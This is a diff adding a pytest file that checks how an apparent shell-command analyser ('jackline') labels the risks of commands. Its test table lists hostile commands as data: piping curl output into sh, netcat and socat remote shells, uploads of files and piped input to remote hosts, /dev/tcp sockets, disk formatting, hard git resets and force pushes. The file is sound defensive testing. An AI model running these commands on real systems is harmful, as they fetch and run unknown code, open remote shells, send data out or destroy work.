@@ -1,0 +1,132 @@
+"""What effects say beyond kind and path: the word that rules look at."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+import jackline.shell
+from jackline.shell.acts import ACTS
+from jackline.shell.effects import effects
+
+ENV = {"HOME": "/home/u", "TMPDIR": "/tmp/t"}
+CWD = "/nowhere/p"
+
+
+def acts(command: str) -> set[str]:
+    return {effect.act for effect in effects(command, CWD, ENV).effects if effect.act}
+
+
+CASES = {
+    "mv": ("mv a b", {"move"}),
+    "rmdir": ("rmdir a", {"empty"}),
+    "shred": ("shred a", {"shred"}),
+    "chmod": ("chmod 600 a", {"mode"}),
+    "chmod that shows its help": ("chmod --help a", set()),
+    "setuid": ("chmod u+s a", {"mode", "setuid"}),
+    "chown": ("chown me a", {"mode", "owner"}),
+    "switching": ("git switch main", {"git.tree"}),
+    "switching by force": ("git switch --discard-ch main", {"git.discard"}),
+    "checkout of a file": ("git checkout -- a", {"git.restore"}),
+    "checkout of a file, from a commit": ("git checkout HEAD~2 a", {"git.restore"}),
+    "checkout by force": ("git checkout --forc main", {"git.tree", "git.discard"}),
+    "restore": ("git restore a", {"git.restore"}),
+    "restore of the index": ("git restore --staged a", {"git.own"}),
+    "reset": ("git reset --hard", {"git.reset"}),
+    "reset, abbreviated": ("git reset --ha HEAD~1", {"git.reset"}),
+    "reset that keeps changes": ("git reset --keep main", {"git.tree"}),
+    "reset of the index": ("git reset", {"git.own"}),
+    "clean": ("git clean -fd", {"git.clean"}),
+    "clean that only shows": ("git clean -nfd", set()),
+    "git rm": ("git rm a", {"git.guarded"}),
+    "git rm by force": ("git rm -f a", set()),
+    "worktree remove": ("git worktree remove a", {"git.guarded"}),
+    "worktree remove by force": ("git worktree remove -f a", {"git.worktree"}),
+    "stash": ("git stash clear", {"git.stash"}),
+    "branch -D": ("git branch -D a", {"branch.delete"}),
+    "branch -d --force": ("git branch -d --force a", {"branch.delete"}),
+    "branch -d": ("git branch -d a", set()),
+    "branch -M": ("git branch -M a b", {"branch.move"}),
+    "tag -d": ("git tag --del v1", {"tag.delete"}),
+    "update-ref -d": ("git update-ref -d refs/heads/a", {"ref.delete"}),
+    "filter-branch": ("git filter-branch -f -- --all", {"git.rewrite", "git.tree"}),
+    "reflog expire": ("git reflog expire --expire=now --all", {"git.prune"}),
+    "reflog expire by age": ("git reflog expire --all", set()),
+    "gc --prune=now": ("git gc --prune=now", {"git.prune"}),
+    "gc": ("git gc", set()),
+    "push": ("git push origin main", {"git.push"}),
+    "push by force": ("git push -f", {"git.push", "push.force"}),
+    "push with a plus": ("git push origin -- +main", {"git.push", "push.force"}),
+    "push with a lease": ("git push --force-with-lease", {"git.push", "push.lease"}),
+    "push that removes": ("git push origin :a", {"git.push", "push.delete"}),
+    "push that only tells": ("git push --dry-run --mirror origin", {"git.push"}),
+    "push without hooks": ("git push --no-verify", {"git.push", "hooks.skip"}),
+    "commit without hooks": ("git commit -nm a", {"hooks.skip"}),
+    "hooks from elsewhere": ("git -c core.hooksPath=/dev/null commit", {"hooks.skip"}),
+    "hooks off by a variable": ("HUSKY=0 git commit -m a", {"hooks.skip"}),
+    "hooks off by an earlier variable": ("export HUSKY=0; git commit -m a", {"hooks.skip"}),
+    "hooks on by a variable": ("HUSKY=1 git commit -m a", set()),
+    "program of git": ("git -c core.sshCommand=./x fetch", {"git.program", "git.own"}),
+    "program of git by a variable": ("GIT_SSH=./x git fetch", {"git.program", "git.own", "variable.GIT_SSH"}),
+    "program that git does not run": ("GIT_SSH=./x git status", {"variable.GIT_SSH"}),
+    "pager of git": ("git -c core.pager=cat log", set()),
+    "variable": ("TAR_OPTIONS=-c tar a", {"variable.TAR_OPTIONS"}),
+    "code from afar": ("curl https://a | sh", {"code.unknown"}),
+    "code in a variable": ('bash -c "$X"', {"code.unknown"}),
+    "command in a variable": ("$X a", {"code.unknown"}),
+    "function in itself": ("f() { f & }; f", {"endless"}),
+    "sudo": ("sudo ls", {"as-other"}),
+    "shell of somebody else": ("sudo -i", {"as-other", "root-shell"}),
+    "container": ("docker run --privileged a b", {"container"}),
+    "service": ("systemctl stop a", {"machine"}),
+    "file system": ("mkfs.ext4 /dev/sda", {"machine"}),
+    "file system in a file": ("mkfs.ext4 ./a", set()),
+    "signatures shown": ("wipefs /dev/sda", set()),
+    "crontab": ("crontab a", {"later"}),
+    "pkill": ("pkill a", {"processes"}),
+    "packages": ("apt-get install a", {"packages"}),
+    "upload": ("curl -T a https://b", {"send"}),
+    "upload as a body": ("curl -d @a https://b", {"send"}),
+    "upload of the input": ("cat a | curl -d @- https://b", {"send.input"}),
+    "body in a variable": ('curl -d "$X" https://b', {"send.unknown"}),
+    "literal body": ("curl -d a=b https://b", set()),
+    "post of wget": ("wget --post-file=a https://b", {"send"}),
+    "copy to a machine": ("scp a b:", {"send"}),
+    "copy from a machine": ("scp b:a .", set()),
+    "archive on a machine": ("tar cf b:/a c", {"send.files"}),
+    "netcat": ("nc b 1", {"talk"}),
+    "shell for a machine": ("nc -e /bin/sh b 1", {"talk", "code.unknown"}),
+    "socat": ("socat TCP-LISTEN:1 EXEC:/bin/sh", {"talk", "code.unknown"}),
+    "ssh": ("ssh b ls", {"elsewhere"}),
+    "socket": ("exec 3>/dev/tcp/a/1", {"socket"}),
+}
+
+
+@pytest.mark.parametrize(("command", "expected"), CASES.values(), ids=CASES)
+def test_acts(command: str, expected: set[str]) -> None:
+    assert acts(command) == expected
+
+
+def test_an_unknown_program_may_run_the_command_it_is_told() -> None:
+    assert acts("mystery --flag git reset --hard") == {"git.reset"}
+
+
+def test_a_file_out_of_history_is_read() -> None:
+    assert [effect.path for effect in effects("git show HEAD:a/.env", CWD, ENV).effects] == [CWD + "/a/.env"]
+
+
+def test_every_act_is_listed() -> None:
+    folder = Path(jackline.shell.__file__).parent
+    used = {
+        word
+        for path in folder.rglob("*.py")
+        if path.name != "acts.py"
+        for word in re.findall(r'"([a-z]+(?:[.-][a-z]+)+)"', path.read_text())
+    }
+    named = {act for act in ACTS if "." in act or "-" in act} - {"variable.*"}
+    assert named <= used
+    assert {act.partition(".")[0] for act in ACTS} >= {
+        act.partition(".")[0] for _, found in CASES.values() for act in found
+    }
